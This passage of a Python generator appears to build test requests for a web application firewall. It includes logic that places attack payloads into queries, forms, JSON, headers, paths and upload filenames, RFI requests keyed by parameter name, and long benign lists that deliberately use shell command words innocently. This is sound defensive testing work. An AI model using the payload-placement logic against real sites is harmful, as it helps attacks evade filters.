        return {**_get("/" + wire(p.lstrip("/"), safe="/:@!$'()*,;=")), "headers": _headers(ua=RS_UA)}
    if kind == "multipart-filename":
        return _mp_request(path, _multipart([("submit", "Upload")], (p, "hello\n")), RS_UA)
    raise ValueError(place)


def fits(place: str, p: str) -> bool:
    """Whether the payload can sit there at all (no CR/LF in headers; no dot-dot segments in a URL path, which
    nginx itself refuses before any rule runs)."""
    if "header:" in place:
        return header_ok(p)
    if place in ("path", "rs-path"):
        return path_ok(p)
    return True


def pick(places: list[str], start: int, p: str) -> str:
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if fits(place, p):
            return place
    return places[start % len(places)]


def _jsonu_pair(p: str, n: int) -> list[tuple[str, dict[str, Any]]]:
    lit = json_u(p)
    body_ours = "{\"email\": \"a@example.org\", \"" + OUR_PARAMS[n % len(OUR_PARAMS)] + "\": " + lit + "}"
    body_rs = "{\"" + RS_PARAMS[n % len(RS_PARAMS)] + "\": " + lit + "}"
    rs_path = RS_PATHS[n % len(RS_PATHS)]
    return [("json", {"method": "POST", "uri": "/api/users", "body": body_ours,
                      "headers": _headers({"Content-Type": "application/json"})}),
            ("rs-json", {"method": "POST", "uri": rs_path, "body": body_rs,
                         "headers": _headers({"Content-Type": "application/json"}, RS_UA)})]


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    k = 0   # rotation over all payloads, so every title meets many placements

    def rec(category: str, sub: str, place: str, payload: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                "placement": place, "payload": payload}

    for category, sub, entries, where in TITLES:
        our_places, rs_places = PLANS[where]
        for i, entry in enumerate(entries):
            k += 1
            if isinstance(entry, tuple):
                p = entry[0]
                for place, req in _jsonu_pair(p, k):
                    yield rec(category, sub, place, json_u(p)[1:-1], req)
                continue
            p = entry
            place = pick(our_places, i if where != "any" else k, p)
            yield rec(category, sub, place, p, ours(place, OUR_PARAMS[k % len(OUR_PARAMS)], p, k))
            rplace = pick(rs_places, i if where != "any" else k, p)
            rpath = RS_PATHS[k % len(RS_PATHS)]
            yield rec(category, sub, rplace, p, regression_suite(rplace, rpath, RS_PARAMS[k % len(RS_PARAMS)], p))
    # 931110: the parameter name is the point, so each URL goes under its own name
    for i, (param, url) in enumerate(RFI_PARAM_NAMES):
        payload = f"{param}={url}"
        kind = ("query", "form", "json")[i % 3]
        if kind == "query":
            req = _get(f"/api/users?{param}={wire(url)}&page=1")
        elif kind == "form":
            req = {**_form("/admin/users/search", []), "body": f"csrf_token=t0k3n&{param}={wire(url)}"}
        else:
            req = _json("/api/users", {"email": "a@example.org", param: url})
        yield rec("rfi", "rfi-vulnerable-param-name", kind, payload, req)
        rpath = ("/index.php", "/", "/cgi-bin/test.cgi", "/search", "/get")[i % 5]
        rkind = ("rs-query", "rs-form", "rs-query", "rs-json", "rs-raw-body")[i % 5]
        if rkind == "rs-query":
            rreq = {**_get(f"{rpath}?{param}={wire(url)}"), "headers": _headers(ua=RS_UA)}
        elif rkind == "rs-json":
            rreq = {"method": "POST", "uri": rpath, "body": json.dumps({param: url}),
                    "headers": _headers({"Content-Type": "application/json"}, RS_UA)}
        else:
            rreq = {"method": "POST", "uri": rpath, "body": f"{param}={wire(url)}",
                    "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"}, RS_UA)}
        yield rec("rfi", "rfi-vulnerable-param-name", rkind, payload, rreq)


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently
# ---------------------------------------------------------------------------------------------------------------
TEXTS = [
    "the cat knocked my coffee over again, send help",
    "ping me when you're back from lunch",
    "can you type up the notes from standup?",
    "echo chamber of a meeting today, same three points",
    "I'll find the slides and share them after",
    "head of sales asked for the Q3 numbers by Friday",
    "tail end of the week is packed, can we do Monday?",
    "who is on call this weekend?",
    "last time we tried that it took two days",
    "set the table for six, the Martins are coming",
    "for what it's worth, I liked the first design better",
    "if it rains we move the picnic indoors",
    "at 3pm we have the vendor call",
    "sort the list by date and send it over",
    "kill the music please, I'm on a call",
    "the dog ate my homework, classic",
    "more coffee, less meetings",
    "less is more when it comes to slides",
    "I need to dig through my inbox for that invoice",
    "who am I kidding, I'll never finish this today",
    "the net result is positive for the quarter",
    "touch base with the design team tomorrow",
    "we need to find a new venue for the offsite",
    "whoami is the first thing I run on a new box, old habit",
    "run `ls -la` in the repo root to see the dotfiles",
    "the .env.example file documents every variable",
    "add .DS_Store to the .gitignore please",
    "the .htaccess rules from the old Apache site don't apply to nginx",
    "our web.config on the IIS box sets the custom errors",
    "docs are in ../README.md relative to this folder",
    "see docs/setup.md, step 3 covers the database",
    "the config lives at config/app.yml in the repo",
    "copy the file to C:\\Users\\Public\\Documents and reopen Excel",
    "my downloads are in C:\\Users\\ann\\Downloads",
    "the printer at http://192.168.1.20 is offline again",
    "dev server runs at http://localhost:3000",
    "the wiki page is https://wiki.example.com/display/ENG/Onboarding",
    "use Get-ChildItem in PowerShell to list them",
    "PowerShell 7 is installed on the build agents now",
    "the for loop in the script iterates over every user",
    "if the build fails, check the logs first",
    "cron runs the backup at 2am every night",
    "the bash script needs executable permissions",
    "we moved from Python 3.9 to 3.12 last month",
    "curl the health endpoint to check it's up",
    "wget is not installed on the minimal image",
    "the shell prompt looks broken in the new terminal",
    "passwords must be at least 12 characters",
    "the shadow DOM styles leak in Safari",
    "the system is down for maintenance on Saturday",
    "the passwd command is blocked on shared machines, ask IT",
    "the etc folder in the design repo is just misc files",
    "cat photos channel is #pets, not #general",
    "uname is Ann, she sits next to the window",
    "the id column is a UUID, not an int",
    "sleep well, talk tomorrow",
    "the nc state office called about the permit",
    "python and perl are both on the allowed list",
    "the ruby anniversary is next month",
    "telnet is disabled on all switches",
    "sh-sh-she said no",
    "I'll ps you the file later",
    "the xterm font is too small on 4k",
    "the sed replacement fixed the dates",
    "socat is a handy tool for port forwarding in dev",
    "use php 8.3 for the new plugin",
    "useradd docs are on the man page",
    "netstat shows nothing listening on 8080",
    "dir listing is disabled on the file server",
    "type your name in the box and press enter",
    "net income was up 4 percent",
    "ipconfig shows the wrong DNS server on my laptop",
    "systeminfo says 16 GB of RAM",
    "tasklist shows Teams eating memory",
    "the local group admins can approve",
    "certutil is how we import the corporate CA on Windows",
    "the reg file sets the proxy",
    "wmic is deprecated on Windows 11",
    "cmd or PowerShell, either works for the installer",
    "the mshta warning came from Defender, it quarantined the attachment",
    "msiexec logs are in the temp folder",
    "schtasks runs the nightly sync",
    "sc query shows the service is stopped",
    "the vssadmin snapshots are a week old",
    "nltest confirmed the domain trust",
    "xcopy is faster than drag and drop for that folder",
    "the invoice for New-Object Ltd is attached",
    "Start-Process is what the installer uses under the hood",
    "Invoke-WebRequest timed out behind the proxy",
    "the execution policy on dev machines is RemoteSigned",
    "for each order, if it shipped, mark it done",
    "if exist in the batch file checks for the lock file",
    "for /f loops in batch files are painful to read",
    "id, name and email are the only required columns",
    "ls and cd are the first commands we teach",
    "ping 8.8.8.8 worked, so the network is fine",
    "bin day is Thursday",
    "the usr folder is read-only on the appliance",
    "the /bin/bash shebang is needed for arrays",
    "our shell is zsh on the Macs",
    "the busybox image is only 5 MB",
    "the function () { ... } syntax is from the old bash days",
    "the vulnerable plugin was patched on Tuesday",
    "upload your .htaccess changes through the control panel, not FTP",
    "settings.php in Drupal holds the database config",
    "wp-config.php needs the new salts",
    "LocalSettings.php for the wiki is backed up",
    "parameters.yml is gone since Symfony 4",
    "the php.ini memory limit is 256M",
    "cat /etc/os-release tells you the distro",
    "the history of the company goes back to 1952",
    "alias for the project is Bluebird",
    "fc Bayern won again",
    "the sqlite file is in the app data folder",
    ".system design interview prep notes are in the drive",
    "the shell company in the story was fictional",
    "HELO, is this thing on?",
    "please RSVP to the mail from HR",
    "data team is hiring",
    "quit while you're ahead",
    "user research sessions are on Wednesday",
    "the retro is at 4, bring ideas",
    "select the inbox folder and sort by sender",
    "login issues on the VPN, IT is looking",
    "fetch the kids at 5",
    "the dele gate for the conference is Ann",
    "who knows where the time goes",
    "pwd reset links expire after an hour",
    "the env var for the region is AWS_REGION",
    "df -h shows the disk is 90% full",
    "du told me node_modules is 2 GB, again",
    "the last login was yesterday",
    "mount the share at boot with fstab",
    "the hostname of the build box is ci-7",
    "uptime is 99.95% this month",
    "the lsof trick found the open file",
    "the od of the room was a mess after the party",
    "tac is cat backwards, fun fact",
    "ip a shows two interfaces",
    "dd is how we wrote the USB stick",
    "the gopher mascot is on the Go team's door",
    "file:// links don't open from Slack",
    "the mirror at ftp.example.org is retired",
    "our office is at 127 Fleet Street",
    "meeting notes: 1) budget 2) hiring 3) offsite",
    "Price $(5) per seat, or ${tier} for teams, says the pricing page",
    "the $PATH on the build agent is missing /usr/local/bin",
    "arithmetic like $((1+2)) works in bash",
    "the backtick key is broken on my keyboard",
    "if errorlevel handling in batch files is confusing",
    "use semicolons; they are underrated",
    "the pipe | character separates the columns",
    "R&D and P&L reports are due",
    "AT&T called about the bill",
    "Tom & Jerry was on TV",
    "the ... in the sentence means trailing off...",
    "wait.... what?",
]

PUBLIC_URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://github.com/acme/tools/blob/main/bin/setup.sh",
    "https://github.com/acme/web/tree/main/docs/../README.md",
    "https://example.com/search?q=cat+food",
    "https://example.com/download?file=report.pdf",
    "https://cdn.example.org/assets/app.js?v=3.1.4",
    "https://shop.example.com/products/ping-pong-table",
    "https://www.example.co.uk/help/how-to-type-accents",
    "https://docs.example.com/api/v2/users?page=2&per_page=50",
    "https://news.example.com/2024/05/10/the-last-word",
    "https://maps.example.com/?q=127+Fleet+Street",
    "https://blog.example.com/posts/for-if-else-explained",
    "https://example.org/files/whoami.pdf",
    "https://www.php.net/manual/en/ini.core.php",
]

PROSE = [
    "cat food order for the office pet",
    "ping pong table booking",
    "type 2 diabetes awareness week",
    "echo dot speaker for the meeting room",
    "find my phone",
    "head office address",
    "tail lift for the van",
    "who is the owner of account 42",
    "last name Smith",
    "set of keys found in the kitchen",
    "for sale: office chairs",
    "if found please return to reception",
    "at risk customers",
    "sort order by date",
    "more details about the contract",
    "less than 100 users",
    "dig site volunteers",
    "net promoter score",
    "id card replacement",
    "shell oil invoice",
    "python training course",
    "perl necklace order",
    "ruby wedding anniversary",
    "sleep study participants",
    "whoami quiz results",
    "passwd reset request",
    "etc and so on",
    "bin collection schedule",
    "dir of marketing",
    "net user count",
    "system administrator job",
    "windows cleaning contract",
    "power shell casing company",
    "for loop tutorial",
    "if statement examples",
    "uname field is required",
    "history department",
    "alias names for Ann",
    "fc united tickets",
    "dd form 214",
    "du pont contract",
    "ps to the letter",
    "mail from Jo",
    "data sheet",
    "select list",
    "login page",
    "inbox zero",
    "user guide",
    "retr0 gaming team",
    "quit smoking program",
    "O'Neil",
    "D'Angelo & Sons",
    "Smith; Jones",
    "Anne-Marie | HR",
    "Q&A session",
    "AT&T",
    "R&D budget",
    "50% off",
    "100% cotton",
    "C:\\Users\\Public report",
    "/home/ann/documents",
    "docs/setup.md",
    "../README.md",
    "version 1.2.3",
    "file.txt",
    "report-2024.pdf",
    ".net developer",
    ".env file template",
    "config.yml example",
    "web.config transform",
    "settings.php",
    "the ... menu",
    "wait...",
    "http://example.com",
    "https://example.org/page?ref=newsletter",
    "ftp site",
    "tom & jerry",
    "$5 coupon",
    "(555) 010-0199",
    "#general channel",
]

SEARCHES = [
    "ann", "bob smith", "o'neil", "cat", "ping", "type", "echo", "find", "head", "tail", "who", "last", "set",
    "for", "if", "at", "sort", "more", "less", "dig", "net", "id", "sh", "nc", "ps", "w", "ls", "df", "du", "dd",
    "od", "ip", "tac", "env", "pwd", "mount", "uptime", "history", "alias", "fc", "system", "shell", "python",
    "perl", "ruby", "php", "bash", "curl", "wget", "whoami", "passwd", "shadow", "hosts", "etc", "bin", "usr",
    "proc", "windows", "win", "boot", "config", "web", "env file", "git", "svn", "htaccess", "dir", "cmd",
    "powershell", "reg", "sc", "tasklist", "ipconfig", "certutil", "wmic", "mail", "data", "helo", "user",
    "pass", "retr", "dele", "list", "select", "login", "fetch", "inbox", "sqlite", ".system", "import",
    "output", "load", "read", "3 cats", "cat & dog", "R&D", "a|b", "x;y", "10.0.0.1", "192.168.1.1",
    "http://example.com", "https://example.org/about", "www.example.com", "C:\\Users", "/home/ann",
    "../docs", "file.txt", "web.config", ".env", "report.pdf", "$HOME", "50%", "100% wool", "(1+1)",
    "{name}", "[draft]", "a.b.c", "...", "o'reilly", "smith-jones", "anne marie",
]

NAMES_ADDRESSES = [
    {"name": "Catherine Pingree", "address": "12 Echo Lane, Typeville"},
    {"name": "Tom Tail", "address": "4 Head Street, Find, OH"},
    {"name": "Sheila Shell", "address": "88 Bash Road, Perl City"},
    {"name": "Dieter Id", "address": "1 Set Square, Nettown"},
    {"name": "Ruby Python", "address": "220 Cat Avenue"},
    {"name": "Wendy Who", "address": "7 Last Close"},
    {"name": "Sam Sort", "address": "Flat 3, 19 More Road"},
    {"name": "Lee Less", "address": "55 Dig Way"},
    {"name": "Anna Alias", "address": "9 History Lane"},
    {"name": "Paul Pwd", "address": "33 Mount Street"},
    {"name": "Hugh Host", "address": "6 Uptime Park"},
    {"name": "Ivy Ip", "address": "10 Dd Place"},
    {"name": "Dora Du", "address": "2 Df Row"},
    {"name": "Ed Env", "address": "17 Etc Terrace"},
    {"name": "Bea Bin", "address": "71 Usr Gardens"},
    {"name": "Wilma Windows", "address": "4 Boot Hill"},
    {"name": "Carl Config", "address": "8 Web Street"},
    {"name": "Gita Git", "address": "23 Svn Court"},
    {"name": "Cam Cmd", "address": "15 Reg Parade"},
    {"name": "Stan Sc", "address": "29 Task Lane"},
    {"name": "Mia Mail", "address": "3 Data Drive"},
    {"name": "Hal Helo", "address": "60 User Way"},
    {"name": "Patty Pass", "address": "44 Retr Road"},
    {"name": "Della Dele", "address": "18 List Lane"},
    {"name": "Selma Select", "address": "26 Login Loop"},
    {"name": "Fetch Fenwick", "address": "91 Inbox Ave"},
    {"name": "Sully Sqlite", "address": "5 System Street"},
    {"name": "Otto Output", "address": "37 Load Lane"},
    {"name": "Reed Read", "address": "12 Import Road"},
    {"name": "Wanda Wget", "address": "40 Curl Crescent"},
    {"name": "Siobhán O'Neil", "address": "2 Rue de la Paix, Paris"},
    {"name": "José Núñez", "address": "Calle Mayor 5, Madrid"},
    {"name": "Zoë Smith-Jones", "address": "Apt 4B, 100 Main St, New York, NY 10001"},
    {"name": "Björn Åkesson", "address": "Storgatan 1, Stockholm"},
    {"name": "Ann & Bob Lee", "address": "PO Box 127, Fleet"},
    {"name": "Dr. Ping Li", "address": "Room 3.14, Building 7"},
    {"name": "Kat Cat", "address": "1/2 Half Street"},
    {"name": "Fred For", "address": "If Lane 8"},
    {"name": "Nat Net", "address": "User Road 3"},
    {"name": "Tess Type", "address": "Echo Valley 2"},
]

UPLOADS = [
    "avatar.png", "resume.pdf", "users.csv", "photo.jpg", "report-2024-q3.xlsx", "notes.txt", "logo.svg",
    "contract_signed.pdf", "team photo.jpeg", "budget (final).xlsx", "cat.gif", "ping-results.csv",
    "type-specimen.pdf", "echo-show-manual.pdf", "head-shot.png", "tail-lights.jpg", "config-guide.pdf",
    "web-design.fig", "shell-brochure.pdf", "python-course.zip", "access-log-summary.pdf", "passwords-policy.docx",
    "hosts-list.xlsx", "windows-update-notes.txt", "bash-cheatsheet.pdf", "powershell-intro.pptx",
    "htaccess-notes.txt", "settings-export.json", "environment-setup.md", "system-diagram.png",
    "history.pdf", "alias-list.csv", "mail-merge.docx", "inbox-rules.txt", "sqlite-schema.sql",
    "directory.csv", "user-list.csv", "etc-receipts.pdf", "bin-schedule.pdf", "proc-manual.pdf",
]

BROWSER_HEADERS = [
    ({"User-Agent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                    "Version/17.5 Safari/605.1.15"}, "header:User-Agent"),
    ({"User-Agent": "curl/8.5.0"}, "header:User-Agent"),
    ({"User-Agent": "python-requests/2.32.3"}, "header:User-Agent"),
    ({"User-Agent": "Wget/1.21.4"}, "header:User-Agent"),
    ({"User-Agent": "PowerShell/7.4 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US)"}, "header:User-Agent"),
    ({"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0"},
     "header:User-Agent"),
    ({"User-Agent": "Go-http-client/2.0"}, "header:User-Agent"),
    ({"User-Agent": "okhttp/4.12.0"}, "header:User-Agent"),
    ({"User-Agent": "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240605.024)"}, "header:User-Agent"),
    ({"User-Agent": "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"}, "header:User-Agent"),
    ({"Referer": "https://www.google.com/"}, "header:Referer"),
    ({"Referer": "https://example.com/search?q=cat+food&page=2"}, "header:Referer"),
    ({"Referer": "https://app.example.com/admin/users?sort=last&dir=asc"}, "header:Referer"),
    ({"Referer": "https://wiki.example.com/display/ENG/How+to+type+accents"}, "header:Referer"),
    ({"Referer": "http://localhost:3000/dashboard"}, "header:Referer"),
    ({"Referer": "https://docs.example.com/guide/../faq.html"}, "header:Referer"),
    ({"Referer": "https://learn.microsoft.com/en-us/powershell/"}, "header:Referer"),
    ({"Referer": "https://github.com/acme/web/blob/main/.github/workflows/ci.yml"}, "header:Referer"),
    ({"Accept-Language": "en-GB,en;q=0.9,fr;q=0.8"}, "header:Accept-Language"),
    ({"Accept-Language": "de-DE,de;q=0.9"}, "header:Accept-Language"),
    ({"X-Client-Info": "ios/17.5 app/4.2.1 (build 1234)"}, "header:X-Client-Info"),
    ({"X-Client-Info": "web; theme=dark; lang=en"}, "header:X-Client-Info"),
    ({"X-Client-Info": "cli/1.0 (bash 5.2; linux)"}, "header:X-Client-Info"),
    ({"X-Client-Info": "desktop/2.3 (Windows 11; PowerShell 7)"}, "header:X-Client-Info"),
    ({"Cookie": "session=abc123; theme=dark; lang=en-GB"}, "cookie"),
    ({"Cookie": "session=abc123; last_search=cat%20food"}, "cookie"),
    ({"Cookie": "session=abc123; recent=ping-pong%2Cecho-dot"}, "cookie"),
    ({"Cookie": "session=abc123; tz=Europe%2FLondon"}, "cookie"),
    ({"Cookie": "session=abc123; cart=%7B%22items%22%3A2%7D"}, "cookie"),
    ({"Cookie": "session=abc123; consent=yes; ab=variant-b"}, "cookie"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]) for s in SEARCHES),
                            f"{NAME}-search", n, "form")
    n = yield from numbered((_json("/api/users", {"email": "a@example.org", **doc}) for doc in NAMES_ADDRESSES),
                            f"{NAME}-address", n, "json")
    n = yield from numbered((_mp_request("/admin/users/import",
                                         _multipart([("csrf_token", "t0k3n"), ("note", "weekly import")],
                                                    (f, "name,email\nAnn,ann@example.org\n")))
                             for f in UPLOADS), f"{NAME}-upload", n, "multipart-filename")
    for extra, place in BROWSER_HEADERS:
        n += 1
        req = _get("/api/users?page=1")
        yield {**req, "headers": {**req["headers"], **extra}, "id": f"{NAME}-headers-{n:04d}",
               "category": "benign", "placement": place}


if __name__ == "__main__":
    print_records(attacks(), benign())
